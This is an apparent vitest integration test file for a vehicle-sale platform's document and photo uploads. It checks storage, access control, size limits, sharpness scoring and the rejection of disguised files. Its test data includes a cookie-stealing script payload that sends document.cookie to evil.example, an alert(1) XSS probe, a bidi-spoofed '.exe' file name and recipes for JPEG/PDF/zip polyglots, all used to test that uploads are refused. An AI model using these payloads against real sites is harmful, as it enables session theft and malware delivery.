import { FormData } from 'miniflare';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { User } from '../contract/accounts';
import {
  MAX_UPLOAD_BYTES,
  type DocumentsState,
  type PhotosState,
  type SharpnessResult,
  type UploadedDocument,
  type VehiclePhoto,
} from '../contract/documents';
import { readMultipart } from '../platform/src/http';
import { newSeller, sessionData, signUp, uniqueEmail, valueCar } from './support/sellers';
import { fixture, pdf as pdfFile } from './support/files';
import { startWorkers, type Workers } from './support/workers';

let workers: Workers;
beforeAll(async () => {
  workers = await startWorkers({ platformVars: { PROVIDER_LATENCY_MS: '0' } });
});
afterAll(() => workers?.dispose());

/* Small real files, built the way their formats say. ------------------------------------------- */

const bytes = (...parts: (ArrayLike<number> | string)[]) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...part].map((c) => c.charCodeAt(0)) : Array.from(part))));
const be16 = (n: number) => [n >> 8, n & 0xff];

const PNG_1X1 = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
  (c) => c.charCodeAt(0),
);
const PDF = pdfFile('Settlement letter');

/** Baseline JPEG headers (JFIF, SOF0 with the dimensions, SOS) around `scanBytes` of scan data. */
function jpeg(width: number, height: number, scanBytes: number): Uint8Array {
  // Scan data never holds a bare 0xFF (encoders stuff it), so the filler stays below it.
  const scan = Array.from({ length: scanBytes }, (_, i) => (i * 37 + 11) % 0xff);
  return bytes(
    [0xff, 0xd8],
    [0xff, 0xe0, ...be16(16)],
    'JFIF\0',
    [1, 1, 0, 0, 1, 0, 1, 0, 0],
    [0xff, 0xc0, ...be16(17), 8, ...be16(height), ...be16(width), 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1],
    [0xff, 0xda, ...be16(12), 3, 1, 0, 2, 0x11, 3, 0x11, 0, 0x3f, 0],
    scan,
    [0xff, 0xd9],
  );
}
// 200×200 pixels: 2.0 and 0.3 bits per pixel, either side of the 0.75 threshold.
const SHARP_JPEG = jpeg(200, 200, 10_000);
const BLURRY_JPEG = jpeg(200, 200, 1_500);

/* A signed-up seller and calls to the platform as the app makes them. ------------------------- */

interface Seller {
  idToken: string;
  enquiryId: number;
}

async function signedUpSeller(): Promise<Seller> {
  const browser = newSeller(workers);
  await valueCar(browser);
  expect((await signUp(browser, uniqueEmail('documents'))).status).toBe(302);
  const idToken = (await sessionData(browser)).auth.idToken as string;
  const user = (await (await workers.platform('/platform/user', { headers: { 'x-mway-authorization': idToken } })).json()) as User;
  return { idToken, enquiryId: user.vehicles![0]!.enquiry!.id };
}

// Miniflare's own FormData: the one Node has globally is a different class to Miniflare's fetch,
// which would send it as the text "[object FormData]".
function formOf(fields: Record<string, string | number>, file?: { bytes: Uint8Array; name: string; type: string }): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, String(value));
  if (file) form.set('file', new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: file.type }), file.name);
  return form;
}

const postForm = (seller: Seller, path: string, form: FormData) =>
  workers.platform(path, { method: 'POST', headers: { 'x-mway-authorization': seller.idToken }, body: form as unknown as BodyInit });

const postJson = (seller: Seller, path: string, body: unknown) =>
  workers.platform(path, {
    method: 'POST',
    headers: { 'x-mway-authorization': seller.idToken, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

const get = (seller: Seller, path: string) => workers.platform(path, { headers: { 'x-mway-authorization': seller.idToken } });

async function upload(seller: Seller, kind: string, file: { bytes: Uint8Array; name: string; type: string }, enquiryId = seller.enquiryId) {
  return postForm(seller, '/platform/vehicle/documents/upload', formOf({ enquiryId, kind }, file));
}

async function uploaded(seller: Seller, kind: string, file: { bytes: Uint8Array; name: string; type: string }): Promise<UploadedDocument> {
  const response = await upload(seller, kind, file);
  expect(response.status, await response.clone().text()).toBe(201);
  return ((await response.json()) as { document: UploadedDocument }).document;
}

async function state(seller: Seller): Promise<DocumentsState> {
  const response = await get(seller, `/platform/vehicle/documents/state?enquiryId=${seller.enquiryId}`);
  expect(response.status).toBe(200);
  return (await response.json()) as DocumentsState;
}

const bucket = () => workers.mf.getR2Bucket('DOCUMENTS', 'kerbside-platform');
const TOO_LARGE = { code: 'file_too_large', message: 'That file is bigger than 10 MB' };
const png = (name = 'logbook.png') => ({ bytes: PNG_1X1, name, type: 'image/png' });
const pdf = (name = 'settlement.pdf') => ({ bytes: PDF, name, type: 'application/pdf' });

/* ---------------------------------------------------------------------------------------------- */

describe('uploading a document', () => {
  it('stores it in R2, lists it in the state, and gives the same bytes back to its owner', async () => {
    const seller = await signedUpSeller();
    const document = await uploaded(seller, 'v5c', png('My logbook.png'));
    expect(document).toMatchObject({
      kind: 'v5c',
      contentType: 'image/png',
      size: PNG_1X1.length,
      originalName: 'My logbook.png',
      submittedAt: null,
    });
    expect(document.id).toMatch(/^[0-9a-f-]{36}$/);

    const object = await (await bucket()).get(`documents/${seller.enquiryId}/v5c/${document.id}`);
    expect(object).not.toBeNull();
    expect(object!.httpMetadata?.contentType).toBe('image/png');
    expect(new Uint8Array(await object!.arrayBuffer())).toEqual(PNG_1X1);

    const current = await state(seller);
    const v5c = current.kinds.find((k) => k.kind === 'v5c')!;
    expect(v5c).toMatchObject({ label: 'V5C logbook', required: true, complete: true });
    expect(v5c.documents.map((d) => d.id)).toEqual([document.id]);
    expect(current.kinds.find((k) => k.kind === 'driving-licence')).toMatchObject({ required: true, complete: false, documents: [] });
    expect(current.kinds.find((k) => k.kind === 'finance-settlement-letter')).toMatchObject({ required: false });
    expect(current).toMatchObject({ complete: false, submitted: false });

    const file = await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('image/png');
    // A download, never a page of ours: even a file a browser did render gets no origin and no scripts.
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="My logbook.png"; filename*=UTF-8''My%20logbook.png`);
    expect(file.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(PNG_1X1);
  });

  it('keeps the file’s name without bidi controls or other format characters: stored, listed and downloaded as it reads', async () => {
    const seller = await signedUpSeller();
    // Shown as it is, "invoice\u202Efdp.exe" reads "invoiceexe.pdf".
    const document = await uploaded(seller, 'v5c', pdf('invoice\u202Efdp\u200B.exe'));
    expect(document.originalName).toBe('invoicefdp.exe');
    const stored = await workers.db
      .prepare('SELECT original_name FROM documents WHERE id = ?1')
      .bind(document.id)
      .first<{ original_name: string }>();
    expect(stored!.original_name).toBe('invoicefdp.exe');
    const download = `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`;
    expect((await get(seller, download)).headers.get('content-disposition')).toBe(
      `attachment; filename="invoicefdp.exe"; filename*=UTF-8''invoicefdp.exe`,
    );

    // A name stored before the rule is cleaned as it goes out.
    await workers.db.prepare('UPDATE documents SET original_name = ?2 WHERE id = ?1').bind(document.id, 'photo\u2067gpj.exe\u2069').run();
    const listed = (await state(seller)).kinds.find((k) => k.kind === 'v5c')!.documents[0]!;
    expect(listed.originalName).toBe('photogpj.exe');
    expect((await get(seller, download)).headers.get('content-disposition')).toMatch(/^attachment; filename="photogpj\.exe"/);
  });

  it('goes by the bytes: a PNG renamed .pdf is no settlement letter, a real PDF is whatever it is called', async () => {
    const seller = await signedUpSeller();
    const renamed = await upload(seller, 'finance-settlement-letter', { bytes: PNG_1X1, name: 'settlement.pdf', type: 'application/pdf' });
    expect(renamed.status).toBe(400);
    expect(await renamed.json()).toEqual({
      code: 'invalid_file',
      message: 'The finance settlement letter must be the PDF your lender sent',
    });

    const document = await uploaded(seller, 'finance-settlement-letter', { bytes: PDF, name: 'letter.png', type: 'image/png' });
    expect(document).toMatchObject({ contentType: 'application/pdf', sharpness: null, sharp: true });
    const file = await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`);
    expect(file.headers.get('content-type')).toBe('application/pdf');
  });

  it('refuses files that are empty or not a photo or PDF, and kinds it does not know', async () => {
    const seller = await signedUpSeller();
    const empty = await upload(seller, 'v5c', { bytes: new Uint8Array(), name: 'empty.jpg', type: 'image/jpeg' });
    expect(await empty.json()).toEqual({ code: 'invalid_file', message: 'That file is empty' });
    const html = await upload(seller, 'v5c', {
      bytes: bytes('<!doctype html><script>alert(1)</script>'),
      name: 'v5c.jpg',
      type: 'image/jpeg',
    });
    expect(html.status).toBe(400);
    expect(await html.json()).toEqual({ code: 'invalid_file', message: 'Upload a photo (JPEG, PNG, WebP or HEIC) or a PDF' });
    expect((await upload(seller, 'passport', png())).status).toBe(400);
    expect((await (await bucket()).list({ prefix: `documents/${seller.enquiryId}/` })).objects).toEqual([]);
  });

  it('answers 413 to a file over 10 MB, and stores nothing', async () => {
    const seller = await signedUpSeller();
    // Within the allowance for the form around it, so the whole body is read: the file itself is a byte over.
    const justOver = new Uint8Array(10 * 1024 * 1024 + 1);
    justOver.set(PDF);
    const response = await upload(seller, 'v5c', { bytes: justOver, name: 'huge.pdf', type: 'application/pdf' });
    expect(response.status).toBe(413);
    expect(await response.json()).toEqual(TOO_LARGE);
    expect((await (await bucket()).list({ prefix: `documents/${seller.enquiryId}/` })).objects).toEqual([]);
  });

  it("gives another seller 404 for everything about someone else's enquiry, and a stranger 401", async () => {
    const owner = await signedUpSeller();
    const document = await uploaded(owner, 'v5c', png());
    await postForm(owner, '/platform/premium/photos', formOf({ enquiryId: owner.enquiryId, slot: 'boot' }, png('boot.png')));
    const other = await signedUpSeller();
    const theirs = { ...other, enquiryId: owner.enquiryId };

    // Each answer is read as it arrives: an unread body can be dropped when the connection is reused.
    const read = async (response: Response) => ({
      status: response.status,
      url: response.url,
      body: (await response.json()) as { code: string },
    });
    const answers = [
      await read(await upload(theirs, 'v5c', png())),
      await read(await get(theirs, `/platform/vehicle/documents/state?enquiryId=${owner.enquiryId}`)),
      await read(await get(theirs, `/platform/vehicle/documents/${document.id}/file?enquiryId=${owner.enquiryId}`)),
      await read(await postJson(theirs, '/platform/vehicle/documents/delete', { enquiryId: owner.enquiryId, documentId: document.id })),
      await read(await postJson(theirs, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: owner.enquiryId })),
      await read(await postForm(theirs, '/platform/premium/photos', formOf({ enquiryId: owner.enquiryId, slot: 'boot' }, png()))),
      await read(await get(theirs, `/platform/premium/photos?enquiryId=${owner.enquiryId}`)),
      await read(await get(theirs, `/platform/premium/photos/boot/file?enquiryId=${owner.enquiryId}`)),
    ];
    for (const response of answers) {
      expect(response.status, response.url).toBe(404);
      expect(response.body.code).toBe('enquiry_not_found');
    }
    // Their own enquiry id with the owner's document id is no way in either.
    expect((await get(other, `/platform/vehicle/documents/${document.id}/file?enquiryId=${other.enquiryId}`)).status).toBe(404);

    const stranger = await workers.platform(`/platform/vehicle/documents/state?enquiryId=${owner.enquiryId}`);
    expect(stranger.status).toBe(401);
    expect(await (await bucket()).get(`documents/${owner.enquiryId}/v5c/${document.id}`)).not.toBeNull();
  });
});

/*
 * Bodies over the limit are refused before they are read, which means answering while the client
 * is still sending. Through Miniflare that now and then resets the connection before the answer is
 * read (about one request in ten here), which says nothing about the platform, so these call the
 * platform's reader directly with a body that counts what is pulled from it.
 */
describe('reading an upload over the limit', () => {
  function countingBody() {
    const counter = { pulled: 0 };
    const body = new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          counter.pulled += 1;
          controller.enqueue(new Uint8Array(1024 * 1024).fill(0x41));
        },
      },
      { highWaterMark: 0 },
    );
    return { counter, body };
  }
  const request = (body: ReadableStream<Uint8Array>, headers: Record<string, string>) =>
    new Request('http://platform.internal/platform/vehicle/documents/upload', {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=x', ...headers },
      body,
      duplex: 'half',
    } as RequestInit);

  it('refuses a declared content-length over the limit without reading a byte', async () => {
    const { counter, body } = countingBody();
    const answer = (await readMultipart(
      request(body, { 'content-length': String(11 * 1024 * 1024) }),
      MAX_UPLOAD_BYTES.document,
    )) as Response;
    expect(answer.status).toBe(413);
    expect(await answer.json()).toEqual(TOO_LARGE);
    expect(counter.pulled).toBe(0);
  });

  it('stops reading a body of unknown length as soon as it passes the limit', async () => {
    const { counter, body } = countingBody();
    const answer = (await readMultipart(request(body, {}), MAX_UPLOAD_BYTES.document)) as Response;
    expect(answer.status).toBe(413);
    expect(await answer.json()).toEqual(TOO_LARGE);
    // 10 MB and the form allowance are passed during the eleventh 1 MB chunk.
    expect(counter.pulled).toBe(11);
  });
});

describe('files that are not what they start as', () => {
  const JPEG = fixture('photo.jpg');
  const LETTER = fixture('letter.pdf');
  const HTML = '<html><body><script>document.location="//evil.example/?"+document.cookie</script></body></html>';
  const DAMAGED = {
    code: 'invalid_file',
    message: 'That file is damaged or incomplete. Save it again, or take a new photo, and upload that.',
  };
  const HIDDEN = {
    code: 'invalid_file',
    message:
      'That file contains something besides the photo or document, so we cannot accept it. Take a new photo, or save the document again as a PDF, and upload that.',
  };

  it('refuses polyglots (a JPEG that is also a page or a PDF, a PDF with a zip after it) and stores nothing', async () => {
    const seller = await signedUpSeller();
    const polyglots = [
      { bytes: bytes(JPEG, HTML), name: 'licence.jpg', type: 'image/jpeg' },
      // A comment segment right after SOI: a PDF reader finds this header in the first kilobyte.
      {
        bytes: bytes(JPEG.subarray(0, 2), [0xff, 0xfe, 0, 30], '%PDF-1.4 1 0 obj <<>> endobj', JPEG.subarray(2)),
        name: 'licence.jpg',
        type: 'image/jpeg',
      },
      {
        bytes: bytes(LETTER, 'PK\x03\x04', new Uint8Array(40), 'PK\x05\x06', new Uint8Array(18)),
        name: 'letter.pdf',
        type: 'application/pdf',
      },
      { bytes: bytes(PNG_1X1, HTML), name: 'logbook.png', type: 'image/png' },
    ];
    for (const file of polyglots) {
      const response = await upload(seller, 'v5c', file);
      expect(response.status, file.name).toBe(400);
      expect(await response.json()).toEqual(HIDDEN);
    }
    const photo = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, polyglots[0]!));
    expect(await photo.json()).toEqual(HIDDEN);
    expect((await (await bucket()).list({ prefix: `documents/${seller.enquiryId}/` })).objects).toEqual([]);
    expect((await (await bucket()).list({ prefix: `photos/${seller.enquiryId}/` })).objects).toEqual([]);
  });

  it('refuses truncated files as damaged, for upload and for the sharpness check', async () => {
    const seller = await signedUpSeller();
    for (const file of [
      { bytes: JPEG.subarray(0, JPEG.length - 200), name: 'cut.jpg', type: 'image/jpeg' },
      { bytes: LETTER.subarray(0, LETTER.length - 100), name: 'cut.pdf', type: 'application/pdf' },
      { bytes: PNG_1X1.subarray(0, PNG_1X1.length - 12), name: 'cut.png', type: 'image/png' },
    ]) {
      const response = await upload(seller, 'v5c', file);
      expect(await response.json(), file.name).toEqual(DAMAGED);
    }
    const sharpness = await postForm(
      seller,
      '/platform/vehicle/documents/checkSharpness',
      formOf({}, { bytes: JPEG.subarray(0, 600), name: 'cut.jpg', type: 'image/jpeg' }),
    );
    expect(sharpness.status).toBe(400);
    expect(await sharpness.json()).toEqual(DAMAGED);
  });

  it("keeps a phone's photo but stores it without what was appended after the image", async () => {
    const seller = await signedUpSeller();
    const motionPhoto = bytes(JPEG, new Uint8Array([0, 0, 0, 16]), 'ftypmp42', new Uint8Array(4), new Uint8Array(300).fill(9));
    const document = await uploaded(seller, 'driving-licence', { bytes: motionPhoto, name: 'PXL_1.MP.jpg', type: 'image/jpeg' });
    expect(document).toMatchObject({ contentType: 'image/jpeg', size: JPEG.length });
    const file = await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`);
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(JPEG);
  });
});

describe('sending the documents for checking', () => {
  it('refuses with the missing kinds, then marks every document submitted once the required ones are there', async () => {
    const seller = await signedUpSeller();
    const refused = await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId });
    expect(refused.status).toBe(409);
    expect(await refused.json()).toMatchObject({ code: 'documents_missing', missing: ['v5c', 'driving-licence'] });

    await uploaded(seller, 'v5c', png());
    const stillMissing = await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId });
    expect(await stillMissing.json()).toMatchObject({ code: 'documents_missing', missing: ['driving-licence'] });

    await uploaded(seller, 'driving-licence', { bytes: SHARP_JPEG, name: 'licence.jpg', type: 'image/jpeg' });
    await uploaded(seller, 'service-history', pdf('invoices.pdf'));
    const submitted = await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId });
    expect(submitted.status).toBe(200);
    const body = (await submitted.json()) as DocumentsState;
    expect(body).toMatchObject({ complete: true, submitted: true });
    const documents = body.kinds.flatMap((k) => k.documents);
    expect(documents).toHaveLength(3);
    expect(documents.every((d) => typeof d.submittedAt === 'string')).toBe(true);

    // Something new after that is not yet sent.
    await uploaded(seller, 'proof-of-address', pdf('bill.pdf'));
    expect((await state(seller)).submitted).toBe(false);
  });

  it('asks for the settlement letter when the profile says finance is outstanding', async () => {
    const seller = await signedUpSeller();
    await workers.db
      .prepare('INSERT INTO vehicle_profiles (enquiry_id, finance, updated_at) VALUES (?1, ?2, ?3)')
      .bind(seller.enquiryId, JSON.stringify({ outstanding: true, lender: 'Black Horse', settlement: 4200 }), new Date().toISOString())
      .run();
    await uploaded(seller, 'v5c', png());
    await uploaded(seller, 'driving-licence', png());
    expect((await state(seller)).kinds.find((k) => k.kind === 'finance-settlement-letter')).toMatchObject({
      required: true,
      complete: false,
    });
    const refused = await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId });
    expect(await refused.json()).toMatchObject({ code: 'documents_missing', missing: ['finance-settlement-letter'] });
    await uploaded(seller, 'finance-settlement-letter', pdf());
    expect((await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId })).status).toBe(
      200,
    );
  });
});

describe('deleting a document', () => {
  it('removes the R2 object and the document from the state; the file is gone', async () => {
    const seller = await signedUpSeller();
    const document = await uploaded(seller, 'v5c', png());
    const key = `documents/${seller.enquiryId}/v5c/${document.id}`;
    expect(await (await bucket()).head(key)).not.toBeNull();

    const deleted = await postJson(seller, '/platform/vehicle/documents/delete', { enquiryId: seller.enquiryId, documentId: document.id });
    expect(deleted.status).toBe(200);
    expect(await (await bucket()).head(key)).toBeNull();
    expect((await state(seller)).kinds.find((k) => k.kind === 'v5c')).toMatchObject({ complete: false, documents: [] });
    expect((await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`)).status).toBe(404);
    const again = await postJson(seller, '/platform/vehicle/documents/delete', { enquiryId: seller.enquiryId, documentId: document.id });
    expect(again.status).toBe(404);
    // The row stays as history of what was uploaded.
    const row = await workers.db
      .prepare('SELECT deleted_at FROM documents WHERE id = ?1')
      .bind(document.id)
      .first<{ deleted_at: string }>();
    expect(row?.deleted_at).toMatch(/^\d{4}-/);
  });
});

describe('guided photos', () => {
  it('keeps one photo per slot: a new upload replaces it and deletes the old object', async () => {
    const seller = await signedUpSeller();
    const before = (await (await get(seller, `/platform/premium/photos?enquiryId=${seller.enquiryId}`)).json()) as PhotosState;
    expect(before.photos).toEqual([]);
    expect(before.missing.slice(0, 4)).toEqual(['front-left', 'front-right', 'rear-left', 'rear-right']);
    expect(before.missing).toHaveLength(12);

    const first = await postForm(
      seller,
      '/platform/premium/photos',
      formOf({ enquiryId: seller.enquiryId, slot: 'front-left' }, png('IMG_0001.png')),
    );
    expect(first.status).toBe(201);
    expect(((await first.json()) as { photo: VehiclePhoto }).photo).toMatchObject({
      slot: 'front-left',
      contentType: 'image/png',
      size: PNG_1X1.length,
    });
    const prefix = `photos/${seller.enquiryId}/front-left/`;
    const [oldObject] = (await (await bucket()).list({ prefix })).objects;
    expect(oldObject).toBeDefined();

    const second = await postForm(
      seller,
      '/platform/premium/photos',
      formOf({ enquiryId: seller.enquiryId, slot: 'front-left' }, { bytes: SHARP_JPEG, name: 'IMG_0002.jpg', type: 'image/jpeg' }),
    );
    expect(second.status).toBe(201);
    expect(((await second.json()) as { photo: VehiclePhoto }).photo).toMatchObject({
      contentType: 'image/jpeg',
      size: SHARP_JPEG.length,
      sharpness: 2,
      sharp: true,
    });
    const objects = (await (await bucket()).list({ prefix })).objects;
    expect(objects).toHaveLength(1);
    expect(objects[0]!.key).not.toBe(oldObject!.key);
    expect(await (await bucket()).head(oldObject!.key)).toBeNull();

    const after = (await (await get(seller, `/platform/premium/photos?enquiryId=${seller.enquiryId}`)).json()) as PhotosState;
    expect(after.photos.map((p) => [p.slot, p.contentType])).toEqual([['front-left', 'image/jpeg']]);
    expect(after.missing).not.toContain('front-left');
    expect(after.missing).toHaveLength(11);

    const file = await get(seller, `/platform/premium/photos/front-left/file?enquiryId=${seller.enquiryId}`);
    expect(file.headers.get('content-type')).toBe('image/jpeg');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="front-left\.jpg"/);
    expect(file.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(SHARP_JPEG);
    expect((await get(seller, `/platform/premium/photos/boot/file?enquiryId=${seller.enquiryId}`)).status).toBe(404);
  });

  it('takes only images, up to 8 MB, into known slots', async () => {
    const seller = await signedUpSeller();
    const asPdf = await postForm(
      seller,
      '/platform/premium/photos',
      formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, pdf('boot.jpg')),
    );
    expect(await asPdf.json()).toEqual({ code: 'invalid_file', message: 'Upload a photo (JPEG, PNG, WebP or HEIC)' });
    const big = new Uint8Array(8 * 1024 * 1024 + 1);
    big.set(PNG_1X1);
    const tooBig = await postForm(
      seller,
      '/platform/premium/photos',
      formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, { bytes: big, name: 'b.png', type: 'image/png' }),
    );
    expect(tooBig.status).toBe(413);
    expect(await tooBig.json()).toEqual({ code: 'file_too_large', message: 'That file is bigger than 8 MB' });
    const unknownSlot = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'sunroof' }, png()));
    expect(unknownSlot.status).toBe(400);
    expect((await (await bucket()).list({ prefix: `photos/${seller.enquiryId}/` })).objects).toEqual([]);
  });
});

describe('sharpness', () => {
  const check = async (
    seller: Seller,
    file: { bytes: Uint8Array; name: string; type: string },
    fields: Record<string, string | number> = {},
  ) => {
    const response = await postForm(seller, '/platform/vehicle/documents/checkSharpness', formOf(fields, file));
    expect(response.status).toBe(200);
    return (await response.json()) as SharpnessResult;
  };

  it('tells a sharp JPEG from a blurry one by bits per pixel, and does not judge PDFs', async () => {
    const seller = await signedUpSeller();
    expect(await check(seller, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' })).toEqual({
      sharp: true,
      score: 2,
      width: 200,
      height: 200,
    });
    expect(await check(seller, { bytes: BLURRY_JPEG, name: 'b.jpg', type: 'image/jpeg' }, { enquiryId: seller.enquiryId })).toEqual({
      sharp: false,
      score: 0.3,
      width: 200,
      height: 200,
    });
    expect(await check(seller, pdf())).toEqual({ sharp: true, score: null, width: null, height: null });
  });

  it('keeps a blurry upload but says so, so the app can ask for another', async () => {
    const seller = await signedUpSeller();
    const document = await uploaded(seller, 'driving-licence', { bytes: BLURRY_JPEG, name: 'licence.jpg', type: 'image/jpeg' });
    expect(document).toMatchObject({ sharpness: 0.3, sharp: false });
    expect((await state(seller)).kinds.find((k) => k.kind === 'driving-licence')!.documents[0]).toMatchObject({
      sharpness: 0.3,
      sharp: false,
    });
  });

  it('needs a signed-in seller, and their own enquiry when one is named', async () => {
    const seller = await signedUpSeller();
    const form = formOf({}, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' });
    expect(
      (await workers.platform('/platform/vehicle/documents/checkSharpness', { method: 'POST', body: form as unknown as BodyInit })).status,
    ).toBe(401);
    const other = await signedUpSeller();
    const response = await postForm(
      seller,
      '/platform/vehicle/documents/checkSharpness',
      formOf({ enquiryId: other.enquiryId }, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' }),
    );
    expect(response.status).toBe(404);
  });
});
